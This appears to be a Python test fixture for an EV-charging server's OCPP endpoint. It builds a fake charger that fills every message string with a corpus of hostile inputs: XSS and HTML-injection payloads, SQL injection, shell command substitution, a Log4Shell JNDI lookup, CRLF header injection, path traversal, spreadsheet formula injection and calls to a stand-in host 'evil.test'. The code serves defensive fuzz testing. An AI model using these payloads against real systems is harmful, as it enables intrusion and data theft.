"""Hostile texts, and a charger that says them in every string that OCPP's schemas leave open, also in its answers."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

from websockets.asyncio.client import ClientConnection
from websockets.exceptions import ConnectionClosed

from tests.e2e.talking import dial
from tests.running import RunningServer
from voltaro.ocpp.dialect import OcppDialect
from voltaro.ocpp.schemas import load
from voltaro.ocpp.v16 import Ocpp16
from voltaro.ocpp.v201 import Ocpp201

CALLED = "p"
"""The function that every script of the corpus calls; a page defines it before anything else runs."""

TEXTS = (
    # HTML, SVG and handlers, whole and breaking out of attributes, comments, titles and scripts
    "<svg onload=p()>",
    "<img src=x onerror=p()>",
    "<script>p()</script>",
    '"><b onclick=p()>',
    "' onfocus=p() '",
    "</textarea><svg/onload=p()>",
    "</script><svg onload=p()>",
    "--><svg onload=p()>",
    "<iframe srcdoc='<svg onload=parent.p()>'>",
    "<math><mtext></p><svg onload=p()>",
    "<a href=javascript:p()>x</a>",
    "<style>*{background:url(http://evil.test/x)}</style>",
    "<img src=http://evil.test/y>",
    "<link rel=stylesheet href=//evil.test/z>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><button>",
    "&lt;svg onload=p()&gt;&amp;&#60;b&#62;",
    "javascript:p()",
    "data:text/html,<script>p()</script>",
    # templates of all kinds
    "{{p()}}${p()}<%=p()%>#{p()}",
    "{id} {n} {name} {tag} {0} %s %d %n",
    "__proto__",
    "constructor",
    "toString",
    # what databases, shells, loggers and spreadsheets read
    "'; DROP TABLE sessions;--",
    '" OR "1"="1',
    "$(touch /tmp/p)`id`",
    "${jndi:ldap://evil.test/a}",
    "%00%0d%0aSet-Cookie: p=1",
    "../../etc/passwd",
    '=HYPERLINK("http://evil.test","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    # directions, what is not seen, what joins
    "abc\u202egpj.exe",
    "\u2066isolate\u2069 \u200f\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "zero\u200bwidth\u200djoin\ufeffbom\u00ad",
    "\u0001\u0007\u001b[31mred\u001b[0m\u007f\u0085",
    "Z\u0351\u036b\u0343\u036a\u0302\u0321\u030a\u0351\u0366\u034f\u0489a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307l\u0334g\u0335o\u0336",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308\U0001f1e9\U0001f1ea",
    "\ufdfa\ufdfa\u0bb5\u0ba3\u0b95\u0bcd\u0b95\u0bae\u0bcd\u65e5\u672c\u8a9e",
    # long words, empty ones, words that are none
    "W" * 255,
    "\u0448" * 120,
    "/" * 90,
    " ",
    "null",
    "undefined",
    "NaN",
    "None",
    "-1",
    "0",
    "true",
    "[object Object]",
    "1e309",
)

IDENTITIES = (
    "<img src=x onerror=p()>",
    "\"><svg onload=p()>'",
    "{{p()}}${p()}%3Cb%3E",
    "=1+1;DROP TABLE x--",
    "\u05e9\u05dc\u05d5\u05dd\u0645\u0631\u062d\u0628\u0627-7",
    "W" * 48,
    "a&b=c?d#e",
    "\U0001f468Z\u0351\u036b\u0343\u036a",
)
"""Those of them that may be the identity of a charger (``domain.identity``)."""

MOMENT = datetime(2026, 1, 1, tzinfo=UTC)


class Liar:
    """Payloads of a schema, each string of them the next hostile text, as much of it as fits; several where there is room."""

    def __init__(self, first: int, texts: Sequence[str] = TEXTS) -> None:
        self._count = len(texts)
        self._texts = itertools.islice(itertools.cycle(texts), first % len(texts), None)

    def text(self, most: int = 60) -> str:
        """A text of at most so many characters: that of the next that fits whole, or the beginning of a long one."""
        for _ in range(self._count):
            text = next(self._texts)
            if len(text) <= most or len(set(text)) == 1:
                break
        if most >= 255 and len(text) < 100:
            text = f"{text} {next(self._texts)[:100]}"
        return text[:most]

    def payload(self, schema: Mapping[str, Any], **known: Any) -> dict[str, Any]:
        """Everything that a schema knows, optional members too; members named in ``known`` have these values, None leaves them out."""
        made: dict[str, Any] = self._of(schema, schema.get("definitions", {}), known, "")
        return made

    def _of(self, schema: Mapping[str, Any], definitions: Mapping[str, Any], known: Mapping[str, Any], name: str) -> Any:
        if "$ref" in schema:
            return self._of(definitions[schema["$ref"].rpartition("/")[2]], definitions, known, name)
        if "enum" in schema:
            return schema["enum"][0]
        kind = schema.get("type")
        if kind == "object":
            members = {
                member: known[member] if member in known else self._of(inner, definitions, known, member)
                for member, inner in schema.get("properties", {}).items()
                if known.get(member, member) is not None
            }
            return members | ({self.text(40): self.text(200)} if name == "customData" else {})
        if kind == "array":
            return [self._of(schema["items"], definitions, known, name) for _ in range(max(1, schema.get("minItems", 1)))]
        if kind == "integer":
            return 1
        if kind == "number":
            return 1.5
        if kind == "boolean":
            return True
        form = schema.get("format")
        if form == "date-time":
            return datetime.now(UTC).isoformat(timespec="seconds").replace("+00:00", "Z")
        if form == "uri":
            return "http://evil.test/"
        return self.text(schema.get("maxLength", 500))


class HostileCharger:
    """A charger by hand that lies in every string; it answers what it is asked in the same way, every third time with an error."""

    def __init__(self, socket: ClientConnection, dialect: type[OcppDialect], liar: Liar) -> None:
        self.socket = socket
        self.liar = liar
        self.schemas = load(dialect.package)
        self.said = sorted(self.schemas.requests.keys() - dialect.to_charger | {"DataTransfer"})
        self._numbers = itertools.count(1)
        self._answers: dict[str, asyncio.Future[list[Any]]] = {}

    async def call(self, action: str, payload: Any) -> list[Any]:
        """Send a CALL under a hostile message id; the frame that answers it."""
        message_id = f"{next(self._numbers)}{self.liar.text(28)}"
        waiting = self._answers[message_id] = asyncio.get_running_loop().create_future()
        await self.socket.send(json.dumps([2, message_id, action, payload]))
        async with asyncio.timeout(30):
            return await waiting

    async def lie(self, action: str, **known: Any) -> list[Any]:
        """Send an action with all its members; those in ``known`` as they are."""
        return await self.call(action, self.liar.payload(self.schemas.requests[action].document, **known))

    async def listen(self) -> None:
        """Hand answers to who waits for them, and answer what is asked."""
        with contextlib.suppress(ConnectionClosed):
            async for raw in self.socket:
                frame = json.loads(raw)
                if frame[0] in (3, 4):
                    waiting = self._answers.pop(frame[1], None)
                    if waiting is not None and not waiting.done():
                        waiting.set_result(frame)
                elif next(self._numbers) % 3:
                    await self.socket.send(json.dumps([3, frame[1], self.liar.payload(self.schemas.responses[frame[2]].document)]))
                else:
                    await self.socket.send(
                        json.dumps([4, frame[1], "InternalError", self.liar.text(255), {self.liar.text(): self.liar.text()}])
                    )


@asynccontextmanager
async def hostile_charger(
    server: RunningServer, identity: str, protocol: str, first: int, texts: Sequence[str] = TEXTS
) -> AsyncIterator[HostileCharger]:
    """One that is connected, and listens."""
    dialect: type[OcppDialect] = Ocpp16 if protocol == "ocpp1.6" else Ocpp201
    async with dial(server, quote(identity, safe=""), protocol) as socket:
        charger = HostileCharger(socket, dialect, Liar(first, texts))
        listening = asyncio.create_task(charger.listen())
        try:
            yield charger
        finally:
            listening.cancel()


def strings_of(value: Any) -> Iterator[str]:
    """Every text in a payload."""
    if isinstance(value, str):
        yield value
    for member in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from strings_of(member)
